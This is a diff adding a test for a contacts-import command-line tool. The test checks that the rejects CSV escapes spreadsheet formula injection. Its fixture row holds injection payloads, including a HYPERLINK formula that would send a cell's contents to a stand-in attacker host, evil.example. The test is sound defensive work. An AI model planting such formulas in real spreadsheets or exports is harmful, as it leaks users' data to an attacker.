@@ -436,3 +436,31 @@ def test_every_console_line_and_table_cell_writes_control_characters_as_escapes(
     assert "\x1b" not in text and "\x07" not in text and "\r" not in text
     assert "X\\x1b[2J01" in text and "no address\\x0d" in text
     assert text.endswith("bell\\x07 and \\u202eoverride\n")
+
+
+# ------------------------------------------------------------------ CSV files we write
+
+
+def test_the_rejects_csv_is_formula_safe_like_the_reports(scaffold: Path, tmp_path: Path) -> None:
+    import csv
+
+    with (scaffold / "audiences" / "contacts.csv").open("a", encoding="utf-8") as source:
+        source.write('@SUM(1+1);Evil;"=HYPERLINK(""http://evil.example/?""&A1,""clic"")";')
+        source.write("+33 1;hotel;Val;;-2027;\n")
+    rejects = tmp_path / "rejects.csv"
+    result = run(scaffold, "audience", "import", "--rejects", str(rejects))
+    assert result.exit_code == 0, result.output
+    with rejects.open(encoding="utf-8", newline="") as handle:
+        rows = [row[:5] for row in csv.reader(handle)]
+    assert rows == [
+        ["row", "key", "column", "value", "reason"],
+        [
+            "9",
+            "'@SUM(1+1)",
+            "email",
+            '\'=HYPERLINK("http://evil.example/?"&A1,"clic")',
+            "invalid_email",
+        ],
+        ["9", "'@SUM(1+1)", "telephone", "'+33 1", "invalid_phone"],
+        ["9", "'@SUM(1+1)", "contract_end", "'-2027", "invalid_date"],
+    ]
